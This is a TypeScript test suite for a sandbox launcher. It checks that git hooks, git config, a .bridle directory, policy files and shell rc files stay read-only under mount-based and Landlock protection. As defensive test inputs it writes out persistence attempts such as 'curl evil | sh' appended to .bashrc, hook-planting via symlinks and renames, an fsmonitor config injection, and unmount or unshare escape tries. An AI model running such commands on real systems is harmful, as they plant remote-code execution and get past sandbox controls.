// Protected paths inside writable roots (.git/hooks, .git/config, .bridle, policy files, shell rc
// files), under both strategies: `mount` (read-only bind mounts in a private namespace) and
// `landlock` (composition, the fallback without user namespaces). Every case asserts the denial
// and that its effect is absent; the same attacks run against both strategies.
import test, { type ExecutionContext } from 'ava';
import { execFileSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { sandboxedCommand, type SandboxStatus } from '../../src/sandbox/launch.js';
import type { ProtectStrategy, SandboxProfile } from '../../src/sandbox/profile.js';
import { loadNative } from '../../src/sandbox/native.js';
import { confined, makeWorld, probeBin, profileFor, requireKernel, run, sh, verdict, type Run, type World } from './harness.js';

const STRATEGIES: readonly ProtectStrategy[] = ['mount', 'landlock'];

// Landlock refuses with EACCES/EPERM; a read-only mount with EROFS, a mount point with EBUSY,
// a link across mounts with EXDEV.
const DENIED: Record<ProtectStrategy, RegExp> = {
  landlock: /Permission denied|Operation not permitted/,
  mount: /Read-only file system|Device or resource busy|Invalid cross-device link|Permission denied|Operation not permitted/,
  auto: /Read-only file system|Device or resource busy|Invalid cross-device link|Permission denied|Operation not permitted/,
};

function kernelOk(t: ExecutionContext, s: ProtectStrategy): boolean {
  if (!requireKernel(t, { abi: 3, seccomp: true }, 'protected paths')) return false;
  if (s === 'mount' && !loadNative().probe().user_namespaces) {
    t.fail('the mount strategy needs unprivileged user namespaces, which this machine does not allow');
    return false;
  }
  return true;
}

function denied(t: ExecutionContext, s: ProtectStrategy, r: Run, msg?: string): void {
  t.not(r.code, 0, `expected failure${msg ? ` (${msg})` : ''}; stdout=${r.stdout} stderr=${r.stderr}`);
  t.regex(r.stderr, DENIED[s], msg);
}

/** A world whose workspace root is a git checkout with a hook, a config and a .bridle dir. */
function repoWorld(tag: string): World {
  const w = makeWorld(tag);
  mkdirSync(path.join(w.ws, '.git', 'hooks'), { recursive: true });
  mkdirSync(path.join(w.ws, '.git', 'objects'));
  writeFileSync(path.join(w.ws, '.git', 'hooks', 'pre-push'), '#!/bin/sh\nexit 0\n');
  writeFileSync(path.join(w.ws, '.git', 'config'), '[core]\n');
  mkdirSync(path.join(w.ws, '.bridle'));
  writeFileSync(path.join(w.ws, '.bridle', 'state'), 'kept\n');
  writeFileSync(path.join(w.ws, 'evil'), '#!/bin/sh\ncurl evil\n');
  return w;
}

function hooks(w: World): string[] {
  return readdirSync(path.join(w.ws, '.git', 'hooks')).sort();
}

function intact(t: ExecutionContext, w: World): void {
  t.deepEqual(hooks(w), ['pre-push'], 'hooks dir changed');
  t.is(readFileSync(path.join(w.ws, '.git', 'hooks', 'pre-push'), 'utf8'), '#!/bin/sh\nexit 0\n');
  t.is(readFileSync(path.join(w.ws, '.git', 'config'), 'utf8'), '[core]\n');
  t.deepEqual(readdirSync(path.join(w.ws, '.bridle')), ['state']);
  t.true(lstatSync(path.join(w.ws, '.git')).isDirectory());
}

/** The launcher's status line for a profile (written to stderr by --status-fd 2). */
async function statusOf(profile: SandboxProfile, cwd: string): Promise<SandboxStatus> {
  const c = sandboxedCommand(profile, '/bin/true', [], { statusFd: 2 });
  const r = await run(c.file, c.args, { cwd, env: c.env });
  const line = r.stderr.split('\n').find((l) => l.startsWith('{"event":"sandbox.status"'));
  if (!line) throw new Error(`no status line: ${r.stderr}`);
  return JSON.parse(line) as SandboxStatus;
}

for (const s of STRATEGIES) {
  const prof = (w: World, o: Parameters<typeof profileFor>[1] = {}): SandboxProfile => profileFor(w, { protectStrategy: s, ...o });

  test(`[${s}] .git/hooks: no new hook, no edited hook, no hook through a link`, async (t) => {
    if (!kernelOk(t, s)) return;
    const w = repoWorld(`hooks-${s}`);
    denied(t, s, await sh(prof(w), 'printf "#!/bin/sh\\ncurl evil\\n" > .git/hooks/pre-commit'), 'new hook');
    denied(t, s, await sh(prof(w), 'echo "curl evil" >> .git/hooks/pre-push'), 'edit hook');
    denied(t, s, await sh(prof(w), 'cp evil .git/hooks/post-checkout'), 'cp hook');
    denied(t, s, await sh(prof(w), 'ln -s ../../evil .git/hooks/pre-commit'), 'symlink inside hooks');
    denied(t, s, await sh(prof(w), 'ln evil .git/hooks/pre-commit'), 'hardlink into hooks');
    denied(t, s, await sh(prof(w), 'mv evil .git/hooks/pre-commit'), 'rename into hooks');
    // Reaching hooks through a link the sandbox makes, or a hard link out of it.
    denied(t, s, await sh(prof(w), 'ln -s ../.git/hooks src/h && echo "curl evil" > src/h/pre-commit'), 'write via symlinked dir');
    const hl = await sh(prof(w), 'ln .git/hooks/pre-push src/pp && echo "curl evil" >> src/pp');
    t.not(hl.code, 0, 'write via hard link');
    t.false(existsSync(path.join(w.ws, 'src', 'pp')));
    intact(t, w);
    t.true(existsSync(path.join(w.ws, 'evil')), 'the source of the rename is still there');
  });

  test(`[${s}] .git/hooks cannot be removed, renamed or replaced`, async (t) => {
    if (!kernelOk(t, s)) return;
    const w = repoWorld(`hooks-rm-${s}`);
    t.not((await sh(prof(w), 'rm -rf .git/hooks')).code, 0, 'rm -rf');
    denied(t, s, await sh(prof(w), 'mv .git/hooks .git/hooks-old'), 'rename');
    denied(t, s, await sh(prof(w), 'mkdir src/hooks && echo evil > src/hooks/pre-commit && mv -T src/hooks .git/hooks'), 'replace by rename');
    t.false(existsSync(path.join(w.ws, '.git', 'hooks-old')));
    intact(t, w);
  });

  test(`[${s}] .git/config: no edit, no replace via rename, no delete`, async (t) => {
    if (!kernelOk(t, s)) return;
    const w = repoWorld(`gitconfig-${s}`);
    denied(t, s, await sh(prof(w), 'echo "[core] fsmonitor = evil" >> .git/config'), 'append');
    denied(t, s, await sh(prof(w), 'echo "[core] fsmonitor = evil" > src/c && mv src/c .git/config'), 'rename over');
    denied(t, s, await sh(prof(w), 'rm -f .git/config'), 'rm');
    denied(t, s, await sh(prof(w), 'truncate -s 0 .git/config'), 'truncate');
    const git = await sh(prof(w), 'git config --file .git/config core.fsmonitor evil');
    t.not(git.code, 0, 'git config');
    intact(t, w);
  });

  test(`[${s}] moving .git out of the way and recreating it is denied`, async (t) => {
    if (!kernelOk(t, s)) return;
    const w = repoWorld(`mvgit-${s}`);
    const r = await sh(prof(w), 'mv .git git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit');
    denied(t, s, r);
    t.false(existsSync(path.join(w.ws, 'git-old')));
    const r2 = await sh(prof(w), 'rm -rf .git; mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit');
    t.not(r2.code, 0, 'rm -rf .git then recreate');
    t.deepEqual(hooks(w), ['pre-push']);
    t.is(readFileSync(path.join(w.ws, '.git', 'config'), 'utf8'), '[core]\n');
  });

  test(`[${s}] nothing can be created inside .bridle`, async (t) => {
    if (!kernelOk(t, s)) return;
    const w = repoWorld(`bridle-${s}`);
    denied(t, s, await sh(prof(w), 'echo x > .bridle/policy.yaml'), 'create');
    denied(t, s, await sh(prof(w), 'echo x >> .bridle/state'), 'edit');
    denied(t, s, await sh(prof(w), 'mv .bridle bridle-old'), 'rename');
    intact(t, w);
  });

  test(`[${s}] a policy file inside the workspace stays read-only and readable`, async (t) => {
    if (!kernelOk(t, s)) return;
    const w = makeWorld(`policy-${s}`);
    mkdirSync(path.join(w.ws, 'policies'));
    const pol = path.join(w.ws, 'policies', 'budget.yaml');
    writeFileSync(pol, 'rules: []\n');
    const p = prof(w, { policyFiles: [pol] });
    const r1 = await sh(p, `cat ${pol} && echo "rules: [allow-all]" > ${pol}`);
    denied(t, s, r1);
    t.true(r1.stdout.includes('rules: []'), 'policy stays readable');
    denied(t, s, await sh(p, `rm -f ${pol}`), 'rm');
    t.not((await sh(p, `mv policies pol2 && mkdir policies && echo "rules: [allow-all]" > ${pol}`)).code, 0, 'rename parent');
    t.is(readFileSync(pol, 'utf8'), 'rules: []\n');
  });

  test(`[${s}] shell rc files stay read-only when home is a write root, existing or not`, async (t) => {
    if (!kernelOk(t, s)) return;
    const w = makeWorld(`rc-${s}`);
    const p = prof(w, { write: [w.home] });
    denied(t, s, await sh(p, `echo "curl evil | sh" >> ${w.home}/.bashrc`), '.bashrc');
    t.is(readFileSync(path.join(w.home, '.bashrc'), 'utf8'), '# rc\n');
    // A missing rc file cannot be created by either strategy (the mount one composes it with Landlock).
    const r2 = await sh(p, `echo "curl evil | sh" > ${w.home}/.zshrc`);
    t.not(r2.code, 0, '.zshrc');
    t.false(existsSync(path.join(w.home, '.zshrc')));
  });

  test(`[${s}] the protection cannot be unmounted, remounted writable, or escaped with a namespace`, async (t) => {
    if (!kernelOk(t, s)) return;
    const w = repoWorld(`remount-${s}`);
    const probe = await probeBin();
    const h = path.join(w.ws, '.git', 'hooks');
    for (const cmd of ['remount-rw', 'umount', 'open-tree']) t.is(verdict(await confined(prof(w), probe, [cmd, h])), 'err EPERM', cmd);
    t.not((await sh(prof(w), 'mount -o remount,rw .git/hooks; echo evil > .git/hooks/pre-commit')).code, 0, 'mount(8) remount');
    t.not((await sh(prof(w), 'unshare -rm sh -c "umount .git/hooks; echo evil > .git/hooks/pre-commit"')).code, 0, 'unshare(1)');
    t.is(verdict(await confined(prof(w), probe, ['unshare-user'])), 'err EPERM', 'unshare(2)');
    intact(t, w);
  });
}

test('[mount] the status line says which strategy protected which path', async (t) => {
  if (!kernelOk(t, 'mount')) return;
  const w = repoWorld('status-mount');
  const pol = path.join(w.outside, 'policy.yaml');
  writeFileSync(pol, 'rules: []\n');
  const st = await statusOf(profileFor(w, { protectStrategy: 'mount', policyFiles: [pol] }), w.ws);
  t.is(st.protect_strategy, 'mount');
  const by = Object.fromEntries(st.protect.map((p) => [p.path, p.by]));
  t.is(by[path.join(w.ws, '.git/hooks')], 'mount');
  t.is(by[path.join(w.ws, '.git/config')], 'mount');
  t.is(by[path.join(w.ws, '.bridle')], 'mount');
  t.is(by[pol], 'landlock', 'outside every write root: Landlock never grants writes there');
  const ll = await statusOf(profileFor(w, { protectStrategy: 'landlock' }), w.ws);
  t.is(ll.protect_strategy, 'landlock');
  t.true(ll.protect.every((p) => p.by === 'landlock'));
});

test('[mount] a missing .bridle is created empty (0700) and read-only; a missing .git is reported absent', async (t) => {
  if (!kernelOk(t, 'mount')) return;
  const w = makeWorld('missing-mount');
  const p = profileFor(w, { protectStrategy: 'mount' });
  const st = await statusOf(p, w.ws);
  const by = Object.fromEntries(st.protect.map((e) => [e.path, e.by]));
  t.is(by[path.join(w.ws, '.bridle')], 'mount');
  t.is(by[path.join(w.ws, '.git/hooks')], 'absent', 'git init must work, so a missing .git is not protected');
  t.is(by[path.join(w.ws, '.git/config')], 'absent');
  t.is(statSync(path.join(w.ws, '.bridle')).mode & 0o777, 0o700);
  denied(t, 'mount', await sh(p, 'echo x > .bridle/policy.yaml'), 'create inside the created .bridle');
  t.deepEqual(readdirSync(path.join(w.ws, '.bridle')), []);
  // With .git present but its hooks dir missing, the hooks dir is created and protected.
  mkdirSync(path.join(w.ws, '.git'));
  writeFileSync(path.join(w.ws, '.git', 'config'), '[core]\n');
  denied(t, 'mount', await sh(p, 'echo evil > .git/hooks/pre-commit'), 'hook in a created hooks dir');
  t.deepEqual(readdirSync(path.join(w.ws, '.git', 'hooks')), []);
});

test('[landlock] protected paths that do not exist yet cannot be created (.bridle, .git/hooks without .git)', async (t) => {
  if (!kernelOk(t, 'landlock')) return;
  const w = makeWorld('missing-landlock');
  const p = profileFor(w, { protectStrategy: 'landlock' });
  denied(t, 'landlock', await sh(p, 'mkdir .bridle'), '.bridle');
  t.false(existsSync(path.join(w.ws, '.bridle')));
  denied(t, 'landlock', await sh(p, 'mkdir -p .git/hooks && echo x > .git/hooks/post-checkout'), '.git/hooks');
  t.false(existsSync(path.join(w.ws, '.git')));
});

test('[landlock] usability limit: the workspace root is frozen (no new top-level entries)', async (t) => {
  if (!kernelOk(t, 'landlock')) return;
  // Documented, not desired: this is why `auto` prefers the mount strategy.
  const w = repoWorld('frozen-landlock');
  denied(t, 'landlock', await sh(profileFor(w, { protectStrategy: 'landlock' }), 'echo x > new.txt'), 'new file at the root');
  t.false(existsSync(path.join(w.ws, 'new.txt')));
  const ok = await sh(profileFor(w, { protectStrategy: 'landlock' }), 'echo x > src/new.txt');
  t.is(ok.code, 0, ok.stderr);
});

test('[mount] as an unprivileged user: identity-mapped user namespace, usable root, protected hooks', async (t) => {
  if (!kernelOk(t, 'mount')) return;
  // Root enters a mount namespace only (it can mount already); everyone else goes through a
  // user namespace. Run the launcher as nobody to exercise that path too.
  if (process.getuid?.() !== 0) {
    t.fail('this case needs root to run the launcher as another user (run the suite as root, as CI does)');
    return;
  }
  const w = makeWorld('unprivileged');
  const env = { ...process.env, HOME: w.ws, GIT_CONFIG_NOSYSTEM: '1', GIT_AUTHOR_NAME: 'T', GIT_AUTHOR_EMAIL: 't@example.com', GIT_COMMITTER_NAME: 'T', GIT_COMMITTER_EMAIL: 't@example.com' };
  execFileSync('git', ['init', '-q'], { cwd: w.ws, env });
  execFileSync('chown', ['-R', '65534:65534', w.ws]);
  const before = readdirSync(path.join(w.ws, '.git', 'hooks')).sort();
  const config = readFileSync(path.join(w.ws, '.git', 'config'), 'utf8');
  // git's safe.directory check passes only if the repository's owner is the euid it sees.
  const script = 'id -u; id -g; echo x > new.txt && git add new.txt && git commit -qm one && git log --oneline | wc -l; echo evil > .git/hooks/pre-commit';
  const c = sandboxedCommand(profileFor(w, { protectStrategy: 'mount' }), '/bin/sh', ['-c', script], { statusFd: 2, env });
  const r = await run('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', c.file, ...c.args], { cwd: w.ws, env: c.env });
  const [uid, gid, commits] = r.stdout.trim().split('\n');
  t.is(uid, '65534', 'the uid is mapped onto itself');
  t.is(gid, '65534');
  t.is(commits, '1', r.stderr);
  t.regex(r.stderr, /"protect_strategy":"mount"/);
  t.regex(r.stderr, /cannot create \.git\/hooks\/pre-commit: Read-only file system/);
  t.not(r.code, 0);
  t.deepEqual(readdirSync(path.join(w.ws, '.git', 'hooks')).sort(), before);
  t.is(readFileSync(path.join(w.ws, '.git', 'config'), 'utf8'), config);
});
